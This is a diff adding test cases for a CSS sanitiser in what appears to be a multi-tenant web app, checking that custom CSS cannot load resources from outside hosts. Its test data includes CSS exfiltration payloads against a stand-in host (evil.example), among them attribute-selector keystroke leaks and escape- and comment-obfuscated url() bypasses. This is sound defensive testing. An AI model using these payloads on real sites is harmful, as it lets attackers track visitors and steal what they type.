@@ -114,6 +114,53 @@ describe('host names, asset URLs and custom CSS', () => {
     ['a{background:url(javascript:alert(1))}', MESSAGES.cssScript],
     ['a{width:expression(alert(1))}', MESSAGES.cssScript],
   ])('cssProblem(%s) = %s', (css, expected) => expect(cssProblem(css)).toBe(expected));
+
+  // Issue 27 item 7: a fetch from anywhere but the tenant's own uploads tracks visitors and, with attribute selectors
+  // (input[value^="a"] { background: url(https://evil/a) }), reads what they type.
+  const UPLOAD = '/uploads/0b1c2d3e-4f50-4a6b-8c7d-9e0f1a2b3c4d.png';
+  it.each([
+    [`a{background:url(${UPLOAD})}`, null],
+    [`a{background:url("${UPLOAD}")}`, null],
+    [`a{background-image:image-set("${UPLOAD}" 1x, url('${UPLOAD}') 2x)}`, null],
+    [`a{background-image:image-set("${UPLOAD}" type("image/png") 1x)}`, null],
+    [`@font-face{font-family:"Brand Sans";src:local("Brand Sans"),url(${UPLOAD})}`, null],
+    ['a{filter:url(#soften)}', null],
+    ['a{content:"url(https://evil.example/x)"}', null],
+    ['@namespace svg url(http://www.w3.org/2000/svg); a{color:red}', null],
+    ['input[value^="a"]{background:url(https://evil.example/a)}', MESSAGES.cssExternal],
+    ['a{background:URL( "https://evil.example/a" )}', MESSAGES.cssExternal],
+    ["a{background:url('//evil.example/a')}", MESSAGES.cssExternal],
+    ['a{background:url(/api/user)}', MESSAGES.cssExternal],
+    ['a{background:url(/uploads/../api/user)}', MESSAGES.cssExternal],
+    ['a{background:url(data:image/svg+xml;base64,AAAA)}', MESSAGES.cssExternal],
+    ['a{background:\\75 rl(https://evil.example/a)}', MESSAGES.cssExternal],
+    ['a{background:\\75rl(https://evil.example/a)}', MESSAGES.cssExternal],
+    ['a{background:u\\72l(https://evil.example/a)}', MESSAGES.cssExternal],
+    ['a{background:\\55 \\52 \\4c (https://evil.example/a)}', MESSAGES.cssExternal],
+    ['a{background:url(\\68ttps://evil.example/a)}', MESSAGES.cssExternal],
+    ['a{background:url("\\2f\\2f evil.example/a")}', MESSAGES.cssExternal],
+    ['a{background:/**/url(https://evil.example/a)/**/}', MESSAGES.cssExternal],
+    ['a{background:url(\n\thttps://evil.example/a\n)}', MESSAGES.cssExternal],
+    // A "/*" inside a string is no comment: the url() after it is live (a comment-stripping scan would miss it).
+    [`a{background:url("${UPLOAD}/*")} b{background:url(https://evil.example/a)} /**/`, MESSAGES.cssExternal],
+    [`a{content:"/*"} b{background:url(https://evil.example/a)} c{content:"*/"}`, MESSAGES.cssExternal],
+    ['a{background-image:image-set("https://evil.example/a.png" 1x)}', MESSAGES.cssExternal],
+    ["a{background-image:-webkit-image-set('https://evil.example/a.png' 1x)}", MESSAGES.cssExternal],
+    ['a{background-image:IMAGE-SET(url(https://evil.example/a.png) 1x)}', MESSAGES.cssExternal],
+    ['a{--u:"https://evil.example/a.png";background-image:image-set(var(--u) 1x)}', MESSAGES.cssExternal],
+    ['a{background-image:cross-fade(url(https://evil.example/a.png), url(/uploads/x.png), 50%)}', MESSAGES.cssExternal],
+    ['a{background-image:image("https://evil.example/a.png")}', MESSAGES.cssExternal],
+    ['@font-face{font-family:x;src:url(https://evil.example/f.woff2) format("woff2")}', MESSAGES.cssExternal],
+    ['@FONT-FACE{font-family:x;src:local(x),url("https://evil.example/f.woff2")}', MESSAGES.cssExternal],
+    ['@media screen{@font-face{font-family:x;src:"https://evil.example/f.woff2"}}', MESSAGES.cssExternal],
+    ['a{cursor:url(https://evil.example/c.png),auto}', MESSAGES.cssExternal],
+    ['a{background:src("https://evil.example/a")}', MESSAGES.cssExternal],
+    ['a{background:url(https://evil.example/a b)}', MESSAGES.cssExternal],
+    // Kept: @import from another site keeps its own message, in the spellings a comment-stripping scan missed too.
+    ['@import "/x.css/*"; @import "https://evil.example/a.css"; /**/', MESSAGES.cssImport],
+    ['@import "/\\\\evil.example/a.css";', MESSAGES.cssImport],
+    ['@import url("/fonts.css");', null],
+  ])('cssProblem(%s) = %s (url, image-set, @font-face)', (css, expected) => expect(cssProblem(css)).toBe(expected));
 });
 
 describe('tenant host reservations', () => {
